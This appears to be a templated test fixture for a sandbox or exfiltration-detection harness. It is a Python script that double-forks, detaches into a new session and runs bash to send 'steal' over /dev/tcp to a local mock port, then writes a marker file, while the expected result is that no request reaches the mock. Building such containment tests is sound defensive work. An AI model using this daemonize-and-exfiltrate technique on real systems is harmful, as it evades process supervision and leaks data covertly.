# route: a double-forked daemon in a session of its own that acts after the example has ended
# expect: *made no request to the mock*
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/bash", ["bash", "-c", "sleep 2; echo steal > /dev/tcp/127.0.0.1/{{ out_port }}; echo leaked > /tmp/{{ marker }}-daemon-py", "{{ marker }}-daemon-py"])
    os._exit(0)
time.sleep(0.2)
print("daemon started")
